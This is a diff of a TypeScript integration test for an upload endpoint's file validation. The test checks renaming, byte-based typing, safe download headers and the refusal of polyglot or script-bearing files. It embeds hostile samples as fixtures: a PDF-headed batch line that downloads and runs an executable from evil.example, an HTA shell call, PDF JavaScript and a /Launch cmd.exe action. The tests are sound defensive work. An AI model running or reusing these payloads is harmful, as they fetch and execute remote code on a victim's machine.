@@ -1,11 +1,14 @@
 /**
  * 증빙자료 with a full-recording application (Art. 6), through the real API with real logins: files sent with the
- * form are sealed, listed with their SHA-256, named on the DOCX, and given back byte for byte only as a download,
- * audited; a file that is not a PDF, JPEG or PNG by its bytes (whatever it claims), one too large, too many, or a
- * request without its CSRF token refuses the whole request and leaves no application, row or sealed file behind.
+ * form are sealed, listed with their SHA-256 and the name the uploader gave them (as text), named on the DOCX, and
+ * given back byte for byte only as a download under the system's name with the extension of their checked type,
+ * audited; a file that is not a PDF, JPEG or PNG by its bytes (whatever it claims), or is one only at its start (a
+ * script or HTA behind a PDF header, bytes after an image's end, a PDF that runs a script), one too large, too many,
+ * or a request without its CSRF token refuses the whole request and leaves no application, row or sealed file behind.
  */
 import { createHash } from 'node:crypto';
-import { readdirSync } from 'node:fs';
+import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import path from 'node:path';
 import JSZip from 'jszip';
 import type { ApplicationDetail } from '../../api/full-recording';
@@ -14,6 +17,8 @@ import { loggedIn, SAMPLE_FILES, type TestClient, type TestFile } from '../suppo
 import { availableDrivers } from '../support/databases';
 import { startWorkflowStack, type WorkflowStack } from '../support/workflow-stack';
 import { eventually } from '../support/eventually';
+import { convertToPdf, savePageImage } from '../support/libreoffice';
+import { sampleJpeg, samplePdf, samplePdfWithObjectStream, samplePng } from '../support/sample-files';
 
 const sha256 = (content: Buffer) => createHash('sha256').update(content).digest('hex');
 const pdf = (name: string, content = SAMPLE_FILES.pdf): TestFile => ({ field: 'evidence', name, type: 'application/pdf', content });
@@ -77,7 +82,7 @@ describe.each(availableDrivers())('evidence with a full-recording application (%
   });
 
   test('filed with the form: sealed, listed with its hash, on the DOCX, downloaded byte for byte and audited', async () => {
-    const scan = Buffer.concat([SAMPLE_FILES.png, Buffer.from('민원 응대 기록 사진')]);
+    const scan = SAMPLE_FILES.png;
     const filed = await apply([
       pdf('C:\\Users\\kim\\바탕 화면\\민원 응대 기록.pdf'),
       { field: 'evidence', name: '../../\u202egnp.exe', type: 'application/octet-stream', content: scan },
@@ -86,10 +91,19 @@ describe.each(availableDrivers())('evidence with a full-recording application (%
     const id = (filed.headers.get('location') ?? '').split('/').pop() as string;
     const chief = await loggedIn(stack.api.url, 'chief');
     const detail = (await chief.json<ApplicationDetail>('GET', `/api/full-recording-applications/${id}`)).body;
-    expect(detail.evidence.map(({ fileName, contentType, sizeBytes, sha256: hash }) => ({ fileName, contentType, sizeBytes, hash }))).toEqual([
-      { fileName: '민원 응대 기록.pdf', contentType: 'application/pdf', sizeBytes: SAMPLE_FILES.pdf.length, hash: sha256(SAMPLE_FILES.pdf) },
-      // Folders and the right-to-left override gone; typed by its bytes, not by what the browser said.
-      { fileName: 'gnp.exe', contentType: 'image/png', sizeBytes: scan.length, hash: sha256(scan) },
+    expect(
+      detail.evidence.map(({ fileName, originalName, contentType, sizeBytes, sha256: hash }) => ({ fileName, originalName, contentType, sizeBytes, hash })),
+    ).toEqual([
+      {
+        fileName: `증빙자료_${id}_1.pdf`,
+        originalName: '민원 응대 기록.pdf',
+        contentType: 'application/pdf',
+        sizeBytes: SAMPLE_FILES.pdf.length,
+        hash: sha256(SAMPLE_FILES.pdf),
+      },
+      // Folders and the right-to-left override gone from the name shown; typed and named by its bytes, not by what
+      // the browser said.
+      { fileName: `증빙자료_${id}_2.png`, originalName: 'gnp.exe', contentType: 'image/png', sizeBytes: scan.length, hash: sha256(scan) },
     ]);
     // Sealed: the stored file is not the plaintext.
     const sealed = sealedFiles();
@@ -99,7 +113,10 @@ describe.each(availableDrivers())('evidence with a full-recording application (%
     const download = await chief.request('GET', `/api/full-recording-applications/${id}/evidence/${detail.evidence[1]!.id}`);
     expect(download.status).toBe(200);
     expect(download.headers.get('content-type')).toBe('image/png');
-    expect(download.headers.get('content-disposition')).toMatch(/^attachment;/);
+    expect(download.headers.get('content-disposition')).toBe(
+      `attachment; filename="evidence_${id}_2.png"; filename*=UTF-8''${encodeURIComponent(`증빙자료_${id}_2.png`)}`,
+    );
+    expect(download.headers.get('x-content-type-options')).toBe('nosniff');
     expect(download.headers.get('cache-control')).toBe('no-store');
     expect(download.headers.get('content-security-policy')).toContain('sandbox');
     expect(Buffer.from(await download.arrayBuffer()).equals(scan)).toBe(true);
@@ -136,4 +153,74 @@ describe.each(availableDrivers())('evidence with a full-recording application (%
     expect(await em().count(Attachment, { ownerId: id })).toBe(3);
     expect(sealedFiles()).toHaveLength(3);
   }, 60_000);
+
+  test("judged by the whole file: polyglots and PDFs that act on their own are refused; real files are kept under the system's name", async () => {
+    // What office software and a PDF renderer really make, each under a name meant to mislead.
+    const folder = mkdtempSync(path.join(tmpdir(), 'evidence-'));
+    const source = path.join(folder, 'statement.txt');
+    writeFileSync(source, '민원 응대 경위서\n2026. 11. 27. 폭언 민원 응대 기록\n');
+    const office = readFileSync(await convertToPdf(source));
+    const picture = readFileSync(await savePageImage(path.join(folder, 'statement.pdf'), 'evidence-upload-page'));
+    const shownName = "민원 & '사진'.png";
+    const filed = await apply([pdf('증빙자료.hta'), pdf('run.bat', office), { field: 'evidence', name: shownName, type: 'image/png', content: picture }]);
+    expect(filed.status).toBe(303);
+    const id = (filed.headers.get('location') ?? '').split('/').pop() as string;
+    const chief = await loggedIn(stack.api.url, 'chief');
+    const { evidence } = (await chief.json<ApplicationDetail>('GET', `/api/full-recording-applications/${id}`)).body;
+    expect(evidence.map(({ fileName, originalName, contentType }) => ({ fileName, originalName, contentType }))).toEqual([
+      { fileName: `증빙자료_${id}_1.pdf`, originalName: '증빙자료.hta', contentType: 'application/pdf' },
+      { fileName: `증빙자료_${id}_2.pdf`, originalName: 'run.bat', contentType: 'application/pdf' },
+      { fileName: `증빙자료_${id}_3.png`, originalName: shownName, contentType: 'image/png' },
+    ]);
+
+    // The chief downloads the `.hta` upload as the PDF it is, under the system's name.
+    const download = await chief.request('GET', `/api/full-recording-applications/${id}/evidence/${evidence[0]!.id}`);
+    expect(download.headers.get('content-type')).toBe('application/pdf');
+    expect(download.headers.get('content-disposition')).toBe(
+      `attachment; filename="evidence_${id}_1.pdf"; filename*=UTF-8''${encodeURIComponent(`증빙자료_${id}_1.pdf`)}`,
+    );
+    expect(download.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(Buffer.from(await download.arrayBuffer()).equals(SAMPLE_FILES.pdf)).toBe(true);
+
+    // The page links the system's name and shows the uploader's as text, escaped.
+    const page = await (await chief.request('GET', `/full-recording/${id}`)).text();
+    expect(page).toContain(`download>증빙자료_${id}_3.png</a></td><td>민원 &#38; &#39;사진&#39;.png</td>`);
+    expect(page).not.toContain(shownName);
+
+    const before = await state();
+    const refused = async (name: string, content: Buffer) =>
+      head.json<{ code: string; message: string }>('POST', `/api/full-recording-applications/${id}/evidence`, {
+        multipart: { files: [{ field: 'evidence', name, type: 'application/pdf', content }] },
+      });
+    const unsafe = (message: string) => ({ status: 415, body: { code: 'UNSAFE_FILE_CONTENT', message: expect.stringContaining(message) as string } });
+    // A batch script and an HTA whose first line is a PDF header.
+    expect(
+      await refused('run.bat', Buffer.from('%PDF-1.7\r\n@echo off\r\npowershell -c "iwr http://evil.example/x.exe -o x.exe; .\\x.exe"\r\n')),
+    ).toMatchObject(unsafe('PDF 구조가 올바르지 않습니다'));
+    const hta = Buffer.from('%PDF-1.4\n<hta:application/><script>new ActiveXObject("WScript.Shell").Run("calc")</script>\n%%EOF\n');
+    expect(await refused('증빙자료.hta', hta)).toMatchObject(unsafe('PDF 구조'));
+    // A real PDF with a script run on opening: written plainly, spelt with #xx, or inside a compressed object stream.
+    const script = '<< /S /JavaScript /JS (app.launchURL\\("http://evil.example/"\\)) >>';
+    expect(await refused('민원.pdf', samplePdf({ catalog: '/OpenAction 4 0 R', extra: [script] }))).toMatchObject(unsafe('자바스크립트'));
+    expect(await refused('민원.pdf', samplePdf({ extra: ['<< /S /J#61vaScript /J#53 (this.print\\(\\)) >>'] }))).toMatchObject(unsafe('자바스크립트'));
+    expect(await refused('민원.pdf', samplePdfWithObjectStream(['<< /S /Launch /F (cmd.exe) >>']))).toMatchObject(unsafe('프로그램 실행'));
+    // Images with something after their end.
+    const zipHeader = Buffer.from('PK\x03\x04', 'latin1');
+    expect(await refused('사진.png', Buffer.concat([samplePng(), zipHeader]))).toMatchObject(unsafe('IEND'));
+    expect(await refused('사진.jpg', Buffer.concat([sampleJpeg(), zipHeader]))).toMatchObject(unsafe('EOI'));
+    expect(await state()).toEqual(before);
+    expect(await em().count(Attachment, { ownerId: id })).toBe(3);
+    // Each refusal is audited with why.
+    const refusals = await em().find(
+      AuditEvent,
+      { action: 'request.refused', targetId: `POST /api/full-recording-applications/${id}/evidence` },
+      { orderBy: { seq: 'asc' } },
+    );
+    expect(refusals.map((entry) => entry.reason.split(':')[0])).toEqual(new Array(7).fill('UNSAFE_FILE_CONTENT'));
+    expect(refusals.map((entry) => entry.detail)).toEqual(
+      ['pdf_structure', 'pdf_structure', 'pdf_active_content', 'pdf_active_content', 'pdf_active_content', 'trailing_data', 'trailing_data'].map(
+        (reason) => expect.stringContaining(reason) as string,
+      ),
+    );
+  }, 120_000);
 });
